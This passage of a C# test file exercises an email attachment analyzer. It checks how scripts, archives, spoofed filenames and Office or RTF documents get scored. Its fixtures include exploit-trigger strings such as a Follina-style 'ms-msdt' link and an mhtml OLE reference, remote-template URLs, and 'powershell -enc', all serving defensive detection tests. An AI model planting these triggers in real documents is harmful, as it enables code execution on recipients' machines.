        Assert.DoesNotContain(twin.Signals, s => s.Id == AttachmentAnalyzer.DangerousExtension.Id);
    }

    [Theory]
    [InlineData("report.py", "import os\nos.system('calc')\n")]
    [InlineData("report.py", "#!/usr/bin/env python3\nimport os\n")]
    public async Task AnalyzeAsync_PythonScript_IsNotedBelowSuspicious(string fileName, string content)
    {
        // It runs on a double click where Python is installed, and developers mail such scripts to each other.
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(fileName, OctetStream, TestFiles.PlainText(content))));

        var weight = report.Signals.Where(s => s.Category == SignalCategory.Attachments).Sum(s => s.Weight);
        Assert.Equal(AttachmentAnalyzer.InterpreterScriptWeight, weight);
        Assert.Equal(SentiMail.Scoring.Verdict.Clean, report.Verdict);
    }

    [Fact]
    public async Task AnalyzeAsync_PythonScriptPosingAsADocument_IsADoubleExtension()
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("invoice.pdf.py", OctetStream, TestFiles.PlainText("import os\n"))));

        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.DoubleExtension.Id);
        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.DangerousExtension.Id && s.Weight == AttachmentAnalyzer.InterpreterScriptWeight);
    }

    [Theory]
    [InlineData("photos.7z", "Please see the attached file.", 1, AttachmentAnalyzer.UnopenedArchiveAloneWeight)]
    [InlineData("photos.7z", LongNote, 1, AttachmentAnalyzer.UnopenedArchiveWeight)]
    [InlineData("photos.7z", "Please see the attached files.", 2, AttachmentAnalyzer.UnopenedArchiveWeight)]
    [InlineData("invoice.pdf.7z", LongNote, 1, AttachmentAnalyzer.UnopenedArchiveAloneWeight)]
    [InlineData("setup.exe.7z", LongNote, 1, AttachmentAnalyzer.UnopenedArchiveAloneWeight)]
    public async Task AnalyzeAsync_ArchiveThatCannotBeUnpacked_WeighsMoreAloneOrUnderAPosingName(string fileName, string text, int attachments, double weight)
    {
        byte[] sevenZip = [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4, .. new byte[64]];
        TestAttachment[] files = [new(fileName, "application/x-7z-compressed", sevenZip), new("agenda.pdf", Pdf, TestFiles.Pdf())];
        var message = TestMessages.Build(HeaderBlock.Standard(), text, null, [.. files.Take(attachments)]);

        var report = await TestEngines.Create().AnalyzeAsync(message);

        Assert.Equal(weight, Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveUnreadable.Id).Weight);
    }

    [Theory]
    [InlineData("project/configure", "#!/bin/sh\necho configuring\n", AttachmentAnalyzer.UnixScriptWeight)]
    [InlineData("project/tools/report.py", "import sys\n", AttachmentAnalyzer.InterpreterScriptWeight)]
    [InlineData("project/build.sh", "#!/bin/sh\nmake\n", 55)]
    [InlineData("project/run.bat", "@echo off\r\nstart calc\r\n", 55)]
    [InlineData("project/notes.txt", "@echo off\r\nstart calc\r\n", 55)]
    public async Task AnalyzeAsync_ScriptInASourceTarball_WeighsAsItWouldAttached(string name, string content, double weight)
    {
        var tgz = TestArchives.Gzip(TestArchives.Tar(("project/README", TestFiles.PlainText()), (name, TestFiles.PlainText(content))));

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("project-1.0.tgz", "application/gzip", tgz)));

        Assert.Equal(weight, Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveExecutable.Id).Weight);
    }

    [Fact]
    public async Task AnalyzeAsync_ProgramAndUnixScriptInAnArchive_TheProgramIsDescribed()
    {
        var zip = TestFiles.Zip(("configure", TestFiles.PlainText("#!/bin/sh\n")), ("setup.exe", TestFiles.WindowsExecutable()));

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("project.zip", Zip, zip)));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveExecutable.Id);
        Assert.Equal(AttachmentAnalyzer.ArchiveExecutable.DefaultWeight, signal.Weight);
        Assert.Contains("setup.exe", signal.Description, StringComparison.Ordinal);
        Assert.Equal(["setup.exe", "configure"], signal.Evidence.Select(e => e.Value));
    }

    [Fact]
    public async Task AnalyzeAsync_ArchiveInspectedOnlyUpToALimit_IsSuspiciousOnItsOwn()
    {
        var zip = TestFiles.Zip([.. Enumerable.Range(0, 1001).Select(i => ($"file{i}.txt", TestFiles.PlainText()))]);

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("archive.zip", Zip, zip)));

        Assert.Equal(AttachmentAnalyzer.LimitHitWeight, Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveUnreadable.Id).Weight);
        Assert.Equal(SentiMail.Scoring.Verdict.Suspicious, report.Verdict);
    }

    [Fact]
    public async Task AnalyzeAsync_ZipListedFromItsLocalHeaders_IsNotedAsDamaged()
    {
        var zip = TestArchives.Damage(TestFiles.Zip(("notes.txt", TestFiles.PlainText())), "no-central-directory");

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("archive.zip", Zip, zip)));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveUnreadable.Id);
        Assert.Equal(AttachmentAnalyzer.ArchiveUnreadable.DefaultWeight, signal.Weight);
        Assert.Contains("local headers", signal.Description, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_PageInAnArchive_EvidenceNamesTheArchiveAndTheFile()
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("invoice.zip", Zip, TestFiles.Zip(("docs/invoice.html", s_loginPage)))));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.HtmlCredentialForm.Id);
        Assert.Contains("docs/invoice.html in the archive invoice.zip", signal.Description, StringComparison.Ordinal);
        Assert.Equal(("attachment:invoice.zip", "docs/invoice.html: POST https://docs.example.net/next.php"), (signal.Evidence[0].Location, signal.Evidence[0].Value));
    }

    [Fact]
    public async Task AnalyzeAsync_RtlOverrideName_EvidenceEscapesTheOverride()
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("Facture_2026\u202Efdp.exe", Pdf, TestFiles.WindowsExecutable())));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.RtlOverrideName.Id);
        Assert.Equal("Facture_2026\\u{202E}fdp.exe", Assert.Single(signal.Evidence).Value);
        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.Executable.Id);
        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.TypeMismatch.Id);
        Assert.Contains(report.Signals, s => s.Id == AttachmentAnalyzer.DangerousExtension.Id);
    }

    [Fact]
    public async Task AnalyzeAsync_UnixScriptWithoutARunnableName_IsNotedBelowSuspicious()
    {
        // Benign twin of "shebang-script": a script shared on a developers' mailing list, under a name no mail client runs.
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("sortlog", "text/plain", TestFiles.PlainText("#!/bin/sh\nsort -k2 \"$1\" | uniq -c\n"))));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.Executable.Id);
        Assert.Equal(AttachmentAnalyzer.UnixScriptWeight, signal.Weight);
        Assert.Equal(SentiMail.Scoring.Verdict.Clean, report.Verdict);
    }

    [Theory]
    [InlineData("sortlog.sh", "#!/bin/sh\nsort -k2 \"$1\" | uniq -c\n")]
    [InlineData("setup", "@echo off\r\npowershell -enc AAAA\r\n")]
    [InlineData("update.js", "#!/usr/bin/env node\nrequire('child_process').exec('calc')\n")]
    public async Task AnalyzeAsync_ScriptThatRunsWhenOpenedOrNamedToRun_KeepsTheFullWeight(string name, string content)
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(name, OctetStream, TestFiles.PlainText(content))));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.Executable.Id);
        Assert.Equal(AttachmentAnalyzer.Executable.DefaultWeight, signal.Weight);
    }

    [Fact]
    public async Task AnalyzeAsync_UnixScriptThenWindowsProgram_TheProgramSetsTheWeight()
    {
        var message = TestMessages.Build(
            HeaderBlock.Standard(),
            "Two files.",
            null,
            new("setup", OctetStream, TestFiles.PlainText("#!/bin/sh\necho hello\n")),
            new("tool.bin", OctetStream, TestFiles.WindowsExecutable()));

        var report = await TestEngines.Create().AnalyzeAsync(message);

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.Executable.Id);
        Assert.Equal(AttachmentAnalyzer.Executable.DefaultWeight, signal.Weight);
        Assert.Equal(2, signal.Evidence.Count);
    }

    [Fact]
    public async Task AnalyzeAsync_HarmlessPdf_RaisesNoAttachmentSignal()
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("agenda.pdf", Pdf, TestFiles.Pdf())));

        Assert.DoesNotContain(report.Signals, s => s.Category == SignalCategory.Attachments);
    }

    [Fact]
    public async Task AnalyzeAsync_PdfWithOnlyOpenAction_IsNotActiveContent()
    {
        // /OpenAction alone opens a page or sets a view.
        var pdf = TestFiles.Pdf("/OpenAction [3 0 R /Fit] ");

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("agenda.pdf", Pdf, pdf)));

        Assert.DoesNotContain(report.Signals, s => s.Id == AttachmentAnalyzer.PdfActiveContent.Id);
    }

    /// <summary>Office and RTF documents that fetch or run code on open, or embed a program; each twin is the same
    /// document without the trick (an ordinary hyperlink, a template on this computer, a picture, a PDF in the package).</summary>
    private static IEnumerable<SignalCase> OfficeThreatCases()
    {
        const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
        const string Rtf = "application/rtf";
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-template-on-the-web",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "https://203.0.113.7/templates/order.dotm", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "https://203.0.113.7/templates/order.dotm", external: true))));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-template-vs-template-inside",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "http://templates.example.net/order.dotm", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "Normal.dotm", external: false))));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-template-vs-template-on-this-computer",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "HTTPS://templates.example.net/order.dotm", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "file:///C:/Users/bob/AppData/Roaming/Microsoft/Templates/Normal.dotm", external: true))));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-external-ole-object",
            new("order.docx", OctetStream, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.OleObjectType, "http://203.0.113.7/o.doc", external: true))),
            new("order.docx", OctetStream, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.OleObjectType, "embeddings/oleObject1.bin", external: false))));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-frame-on-a-network-share",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.FrameType, "\\\\203.0.113.7\\share\\frame.docx", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "\\\\203.0.113.7\\share\\frame.docx", external: true))));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "rtf-template-on-the-web",
            new("order.rtf", Rtf, TestOfficeFiles.Rtf("{\\*\\template http://203.0.113.7/order.dotm}")),
            new("order.rtf", Rtf, TestOfficeFiles.Rtf("{\\*\\template C:\\\\Templates\\\\Letter.dot}")));
        yield return Case(AttachmentAnalyzer.RemoteTemplate, "docx-template-on-the-web-in-a-zip",
            new("order.zip", Zip, TestFiles.Zip(("order.docx", TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.TemplateType, "https://203.0.113.7/t.dotm", external: true))))),
            new("order.zip", Zip, TestFiles.Zip(("order.docx", TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "https://203.0.113.7/t.dotm", external: true))))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "follina-mhtml-ole-object",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.OleObjectType, "mhtml:http://203.0.113.7/f.html!x-usc:http://203.0.113.7/f.html", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "mhtml:http://203.0.113.7/f.html!x-usc:http://203.0.113.7/f.html", external: true))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "follina-address-ending-in-a-bang",
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.OleObjectType, "http://203.0.113.7/RDF842l.html!", external: true))),
            new("order.docx", Docx, TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "http://203.0.113.7/RDF842l.html!", external: true))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "follina-ms-msdt-in-a-zip",
            new("order.zip", Zip, TestFiles.Zip(("order.docx", TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.OleObjectType, "ms-msdt:/id PCWDiagnostic /skip force", external: true))))),
            new("order.zip", Zip, TestFiles.Zip(("order.docx", TestOfficeFiles.Docx(TestOfficeFiles.Relationship(TestOfficeFiles.HyperlinkType, "https://support.example.net/msdt", external: true))))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "rtf-equation-editor-object",
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Equation.3", TestOfficeFiles.Ole1Object("Equation.3", TestOfficeFiles.CompoundFileWithClass(TestOfficeFiles.EquationClsid, "Equation Native"))))),
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfPicture())));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "rtf-equation-editor-object-behind-a-lying-class",
            new("order.doc", "application/msword", TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Picture.8", TestOfficeFiles.Ole1Object("Word.Picture.8", TestOfficeFiles.CompoundFileWithClass(TestOfficeFiles.EquationClsid, "Contents"))))),
            new("order.doc", "application/msword", TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Picture.8", TestOfficeFiles.Ole1Object("Word.Picture.8", TestOfficeFiles.CompoundFileWithClass(new byte[16], "Contents"))))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "rtf-url-moniker-link",
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Document.8", TestOfficeFiles.Ole1Object("OLE2Link", TestOfficeFiles.CompoundFileWithClass(TestOfficeFiles.UrlMonikerClsid, "\u0001Ole")), "\\objautlink\\rsltpict"))),
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Document.8", TestOfficeFiles.Ole1Object("Word.Document.8", TestOfficeFiles.CompoundFileWithClass(new byte[16], "WordDocument"))))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "rtf-object-updated-on-open",
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Document.8", TestOfficeFiles.Ole1Object("Word.Document.8", TestFiles.OleDocument("WordDocument")), "\\objemb\\objupdate"))),
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Word.Document.8", TestOfficeFiles.Ole1Object("Word.Document.8", TestFiles.OleDocument("WordDocument"))))));
        yield return Case(AttachmentAnalyzer.OfficeExploit, "rtf-equation-editor-object-in-a-zip",
            new("order.zip", Zip, TestFiles.Zip(("order.doc", TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Equation.3", TestOfficeFiles.Ole1Object("Equation.3", TestOfficeFiles.CompoundFileWithClass(TestOfficeFiles.EquationClsid, "Equation Native"))))))),
            new("order.zip", Zip, TestFiles.Zip(("order.doc", TestOfficeFiles.Rtf(TestOfficeFiles.RtfPicture())))));
        yield return Case(AttachmentAnalyzer.EmbeddedFile, "rtf-package-with-a-program",
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfObject("Package", TestOfficeFiles.Ole1Object("Package", TestOfficeFiles.PackageNative("invoice.exe"))))),
            new("order.rtf", Rtf, TestOfficeFiles.Rtf(TestOfficeFiles.RtfPicture())));
        yield return Case(AttachmentAnalyzer.EmbeddedFile, "docx-ole-package-with-a-script",
            new("order.docx", Docx, TestOfficeFiles.DocxWithPackage("invoice.js")),
            new("order.docx", Docx, TestOfficeFiles.DocxWithPackage("invoice.pdf")));
        yield return Case(AttachmentAnalyzer.EmbeddedFile, "legacy-doc-ole-package-with-a-shortcut",
            new("order.doc", "application/msword", TestOfficeFiles.PackageCompoundFile("invoice.lnk")),
            new("order.doc", "application/msword", TestOfficeFiles.PackageCompoundFile("invoice.xlsx")));
        yield return Case(AttachmentAnalyzer.EmbeddedFile, "docx-ole-package-with-a-script-in-a-zip",
            new("order.zip", Zip, TestFiles.Zip(("docs/order.docx", TestOfficeFiles.DocxWithPackage("invoice.vbs")))),
            new("order.zip", Zip, TestFiles.Zip(("docs/order.docx", TestOfficeFiles.DocxWithPackage("invoice.pdf")))));
    }

    /// <summary>A word-processing document whose VBA project is stored as <c>word/{part}</c>, named as such by its
    /// content type, by the document's relationship to it, or neither; every other part of a genuine .docm is there.</summary>
    private static byte[] MacroDocument(string part, bool contentType, bool relationship)
    {
        var types = "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
            + (contentType ? $"<Override PartName=\"/word/{part}\" ContentType=\"application/vnd.ms-office.vbaProject\"/>" : string.Empty);
        var rels = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + (relationship ? $"<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"{part}\"/>" : string.Empty)
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/image2.png\"/></Relationships>";
        return Package(
            ("[Content_Types].xml", ContentTypes(types)),
            ("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"u8.ToArray()),
            ("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(rels)),
            ("word/" + part, TestFiles.OleDocument("_VBA_PROJECT")));
    }

    /// <summary>A workbook with one sheet part of the given name and content type, related from the workbook.</summary>
    private static byte[] Workbook(string sheet, string contentType)
    {
        var relationship = contentType.Contains("macrosheet", StringComparison.Ordinal)
            ? "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
            : "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet";
        return Package(
            ("[Content_Types].xml", ContentTypes($"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/{sheet}\" ContentType=\"{contentType}\"/>")),
            ("xl/workbook.xml", "<workbook><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName></definedNames></workbook>"u8.ToArray()),
            ("xl/_rels/workbook.xml.rels", Encoding.UTF8.GetBytes($"<Relationships><Relationship Id=\"rId1\" Type=\"{relationship}\" Target=\"/{sheet}\"/></Relationships>")),
            (sheet, "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>SUM(B1:B2)</f></c></row></sheetData></worksheet>"u8.ToArray()));
    }

    private static byte[] ContentTypes(string elements) =>
        Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">{elements}</Types>");

    private static byte[] Package(params (string Name, byte[] Content)[] parts) => TestFiles.Zip(parts);

    /// <summary>An OLE compound file whose directory (from 1024) names these entries, 128 bytes apart.</summary>
    private static byte[] OleDocument(params string[] names)
    {
        var bytes = TestFiles.OleDocument(names[0]);
        for (var i = 1; i < names.Length; i++)
        {
            Encoding.Unicode.GetBytes(names[i]).CopyTo(bytes.AsSpan(1024 + (128 * i)));
        }

        return bytes;
    }

    private static byte[] ThousandThen(string name) =>
        TestFiles.Zip([.. Enumerable.Range(0, 1000).Select(i => ($"docs/p{i}.txt", Array.Empty<byte>())), (name, TestFiles.PlainText())]);

    private static byte[] Padded(byte[] page)
    {
        var padding = new byte[2 * 1024 * 1024];
        padding.AsSpan().Fill((byte)' ');
        return [.. "<!--"u8, .. padding, .. "-->"u8, .. page];
    }

    private static byte[] Svg(string content) =>
        Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\" height=\"600\">{content}</svg>\n");

    /// <summary>An MHTML archive as a browser saves one: its page quoted-printable in a multipart/related.</summary>
    private static byte[] Mhtml(string quotedPrintableBody) => Encoding.ASCII.GetBytes(
        "From: <Saved by Blink>\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"mht\"\r\n\r\n"
        + "--mht\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://docs.example.net/\r\n\r\n"
        + $"<html><body>{quotedPrintableBody}</body></html>\r\n--mht--\r\n");

    private static byte[] Html(string body) => Encoding.UTF8.GetBytes($"<!DOCTYPE html><html><head><title>Invoice</title></head><body>{body}</body></html>");

    private static SignalCase Case(SignalDefinition signal, string scenario, TestAttachment positive, TestAttachment benign) =>
        new(signal.Id, scenario, () => TestMessages.WithAttachment(positive), () => TestMessages.WithAttachment(benign));

    /// <summary>An Internet Shortcut as Internet Explorer wrote it (a [DEFAULT] section, then [InternetShortcut]).</summary>
    private static byte[] Shortcut(string lines) =>
        Encoding.ASCII.GetBytes("[DEFAULT]\r\nBASEURL=http://www.example.edu/\r\n[InternetShortcut]\r\n" + lines + "\r\nModified=E0824ED43364C201DE\r\n");
}
